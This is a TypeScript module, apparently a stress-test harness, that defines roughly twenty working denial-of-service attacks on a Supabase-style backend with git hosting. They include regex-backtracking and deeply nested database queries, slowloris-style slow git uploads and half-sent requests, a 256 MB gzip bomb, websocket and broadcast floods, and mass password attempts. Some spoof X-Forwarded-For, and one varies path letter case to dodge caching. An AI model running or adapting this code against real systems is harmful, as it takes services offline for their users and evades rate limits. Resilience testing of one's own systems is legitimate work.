import net from 'node:net';
import { gzipSync } from 'node:zlib';
import { WebSocket } from 'ws';
import { flood, Tally } from './flood.ts';
import type { AttackedTarget, Target } from './target.ts';

export interface Attack {
  name: string;
  /** Goes on until the signal. Resolves with how often the server said what. */
  run(target: AttackedTarget, until: AbortSignal): Promise<string>;
}

const encode = encodeURIComponent;
const files = '/rest/v1/git_repository_files';

/** Questions to the database that are sent over and over. */
function questions(name: string, atOnce: number, paths: (target: Target) => string[]): Attack {
  return {
    name,
    run: (target, until) =>
      flood(target, until, atOnce, (turn) => {
        const some = paths(target);
        return { path: some[turn % some.length] ?? '/', headers: { apikey: target.publishableKey } };
      }),
  };
}

export const attacks: Attack[] = [
  questions('pattern', 10, ({ largestFile }) => [
    `${files}?select=id&filename=eq.${encode(largestFile)}&content=match.${encode('(?=.*zzzq)a')}`,
    `${files}?select=id&content=match.${encode(String.raw`(?b)a\{1,30\}`)}`,
    `${files}?select=id&content=match(any).${encode('{"(?=.*zzzq)a"}')}`,
    `${files}?select=id&filename=match.${encode('(a*)*(b*)*(c*)*(a|b|c)*[^a-z]+$')}`,
  ]),
  questions('text', 10, () => [
    `${files}?select=id&content=fts.zzzqqq`,
    `${files}?select=id&content=ilike.*z*z*q*`,
  ]),
  questions('embed', 10, () => [
    '/rest/v1/git_repositories?select=*,git_repository_files(*,git_repositories(*,git_repository_files(content)))',
    '/rest/v1/git_repositories?select=*,git_repository_files(*)',
    `/rest/v1/git_repositories?select=${Array.from({ length: 12 }, (_, at) => `f${at}:git_repository_files(*)`).join(',')}`,
  ]),
  questions('answers', 20, () => [
    `${files}?select=*&limit=200`,
    `${files}?select=${Array.from({ length: 150 }, (_, at) => `c${at}:content`).join(',')}&limit=5`,
    `${files}?select=*&order=content`,
    `${files}?select=id&${Array.from({ length: 90 }, (_, at) => `content=gt.x${at}`).join('&')}`,
  ]),
  questions('count', 20, () => [
    `${files}?select=id,git_repositories!inner(id)&git_repositories.name=ilike.*a*&limit=1`,
    '/rest/v1/rpc/similar_suggestions?words=dark%20mode%20for%20everything',
    '/rest/v1/',
  ]),
  questions('search', 20, () => [`/rest/v1/rpc/find_projects?q=${encode('\ufdfa'.repeat(101))}`]),
  {
    name: 'slow-git',
    run: async ({ url, from, repository }, until) => {
      const tally = new Tally();
      const { port, hostname } = new URL(url);
      const sockets = new Set<net.Socket>();
      const open = () => {
        const socket = net.connect(Number(port), hostname);
        sockets.add(socket);
        socket.on('data', (data) =>
          tally.add(/^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? 'more'),
        );
        socket.on('error', () => {});
        socket.write(
          `POST /${repository}/git-upload-pack HTTP/1.1\r\nHost: ${hostname}:${port}\r\nX-Forwarded-For: ${from}\r\n` +
            'Content-Type: application/x-git-upload-pack-request\r\nContent-Length: 4000000\r\n\r\n',
        );
        const drip = setInterval(() => socket.writable && socket.write('0'.repeat(1000)), 1000);
        socket.on('close', () => {
          clearInterval(drip);
          sockets.delete(socket);
          tally.add('closed');
          if (!until.aborted) setTimeout(open, 200);
        });
      };
      for (let at = 0; at < 30; at += 1) open();
      await ended(until);
      for (const socket of sockets) socket.destroy();
      return tally.toString();
    },
  },
  {
    name: 'clones',
    run: (target, until) =>
      flood(target, until, 20, () => ({ path: `/${target.repository}/info/refs?service=git-upload-pack` })),
  },
  {
    name: 'gzip',
    run: (target, until) => {
      const bomb = gzipSync(Buffer.alloc(256 * 1024 * 1024, '0'));
      return flood(target, until, 8, () => ({
        path: `/${target.repository}/git-upload-pack`,
        method: 'POST',
        headers: { 'content-encoding': 'gzip', 'content-type': 'application/x-git-upload-pack-request' },
        body: bomb,
      }));
    },
  },
  {
    name: 'realtime',
    run: async ({ url, from, publishableKey }, until) => {
      const tally = new Tally();
      const sockets = Array.from({ length: 60 }, () => {
        const socket = new WebSocket(
          `${url.replace(/^http/, 'ws')}/realtime/v1/websocket?apikey=${publishableKey}&vsn=1.0.0`,
          { headers: { 'x-forwarded-for': from } },
        );
        const topic = 'realtime:room';
        const say = (event: string, payload: unknown) => {
          if (socket.readyState === WebSocket.OPEN)
            socket.send(JSON.stringify({ topic, event, payload, ref: '1', join_ref: '1' }));
        };
        let timer: NodeJS.Timeout | undefined;
        socket.on('open', () => {
          tally.add('open');
          say('phx_join', { config: { broadcast: { self: true } } });
          timer = setInterval(() => {
            for (let count = 0; count < 10; count += 1)
              say('broadcast', { type: 'broadcast', event: 'x', payload: 'x'.repeat(3000) });
          }, 20);
        });
        socket.on('message', () => tally.add('message'));
        socket.on('unexpected-response', (_, response) => tally.add(String(response.statusCode)));
        socket.on('close', (code) => {
          tally.add(`closed ${code}`);
          clearInterval(timer);
        });
        socket.on('error', () => {});
        return socket;
      });
      await ended(until);
      for (const socket of sockets) socket.terminate();
      return tally.toString();
    },
  },
  {
    name: 'broadcasts',
    run: (target, until) =>
      flood(target, until, 20, () => ({
        path: '/realtime/v1/api/broadcast',
        method: 'POST',
        headers: { apikey: target.publishableKey, 'content-type': 'application/json' },
        body: JSON.stringify({
          messages: Array.from({ length: 50 }, () => ({
            topic: 'room',
            event: 'x',
            payload: 'x'.repeat(3000),
          })),
        }),
      })),
  },
  {
    name: 'passwords',
    run: (target, until) =>
      flood(target, until, 40, (turn) => ({
        path: '/auth/v1/token?grant_type=password',
        method: 'POST',
        headers: { apikey: target.publishableKey, 'content-type': 'application/json' },
        body: JSON.stringify({ email: `nobody-${turn}@example.org`, password: 'correct horse battery' }),
      })),
  },
  {
    name: 'pages',
    run: (target, until) =>
      flood(target, until, 40, (turn) => ({
        path: `/templates?q=${turn}&category=blog,-portfolio&page=${turn % 9}`,
      })),
  },
  {
    name: 'spellings',
    run: (target, until) =>
      flood(target, until, 8, (turn) => ({
        path: spell('/our-websites', turn),
        headers: { 'accept-encoding': 'br' },
      })),
  },
  {
    name: 'not-found',
    run: (target, until) => flood(target, until, 400, (turn) => ({ path: `/demo/nothing-${turn}` })),
  },
  {
    name: 'brackets',
    run: (target, until) => {
      const body = `[${'[],'.repeat(340_000)}[]]`;
      return flood(target, until, 20, () => ({
        path: '/rest/v1/rpc/similar_suggestions',
        method: 'POST',
        headers: { apikey: target.publishableKey, 'content-type': 'application/json' },
        body,
      }));
    },
  },
  {
    name: 'slow-readers',
    run: (target, until) => leave(target, until, 60, [request(target, `GET ${files}?select=*&limit=150`)]),
  },
  {
    name: 'unread-archives',
    run: (target, until) =>
      leave(target, until, 80, [
        request(
          target,
          `GET ${target.repository.replace(/^git/, '/functions/v1/git').replace(/\.git$/, '/archive.zip')}`,
        ),
      ]),
  },
  {
    name: 'unfinished',
    run: (target, until) => {
      const headers = { 'Content-Type': 'application/json', 'Content-Length': 2 ** 20 };
      const head = request(target, 'POST /rest/v1/rpc/similar_suggestions', headers);
      return leave(target, until, 700, [head, ' '.repeat(1_000_000)]);
    },
  },
  {
    name: 'unfinished-lists',
    run: (target, until) => {
      const headers = { 'Content-Type': 'application/json', 'Content-Length': 2 ** 20 };
      const head = request(target, 'POST /storage/v1/object/list/project-files', headers);
      return leave(target, until, 700, [head, ' '.repeat(1_000_000)]);
    },
  },
  {
    name: 'bursts',
    run: (target, until) => leave(target, until, 700, [request(target, 'GET /demo/nothing')]),
  },
  {
    name: 'pipelines',
    run: (target, until) =>
      leave(target, until, 60, [
        request(target, 'GET /storage/v1/object/public/project-files/none').repeat(800),
      ]),
  },
];

export const everything: Attack = {
  name: 'all at once',
  run: async (target, until) => {
    const got = await Promise.all(attacks.map(({ run }) => run(target, until)));
    return `${got.length} attacks`;
  },
};

function ended(signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    if (signal.aborted) resolve();
    else signal.addEventListener('abort', () => resolve(), { once: true });
  });
}

/** A request as it is written, without its body. */
function request(
  { url, from, publishableKey }: AttackedTarget,
  line: string,
  headers: Record<string, string | number> = {},
): string {
  const all = { Host: new URL(url).host, apikey: publishableKey, 'X-Forwarded-For': from, ...headers };
  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}`);
  return `${[`${line} HTTP/1.1`, ...lines].join('\r\n')}\r\n\r\n`;
}

/** Opens connections that write the pieces and then neither read nor write; each that is closed is opened again. */
async function leave(
  { url }: AttackedTarget,
  until: AbortSignal,
  count: number,
  pieces: string[],
): Promise<string> {
  const { port, hostname } = new URL(url);
  const tally = new Tally();
  const sockets = new Set<net.Socket>();
  const open = () => {
    const socket = net.connect(Number(port), hostname);
    sockets.add(socket);
    tally.add('opened');
    socket.on('error', () => {});
    socket.on('close', () => {
      sockets.delete(socket);
      tally.add('closed');
      if (!until.aborted) setTimeout(open, 50);
    });
    for (const piece of pieces) socket.write(piece);
    socket.pause();
  };
  for (let at = 0; at < count; at += 1) open();
  await ended(until);
  for (const socket of sockets) socket.destroy();
  return tally.toString();
}

/** One of the many spellings of a path that lead to the same page: its letters in large or small, as the bits of `turn` say. */
function spell(path: string, turn: number): string {
  let bits = turn + 1;
  return path.replace(/[a-z]/g, (letter) => {
    const isLarge = bits % 2 === 1;
    bits = Math.floor(bits / 2);
    return isLarge ? letter.toUpperCase() : letter;
  });
}
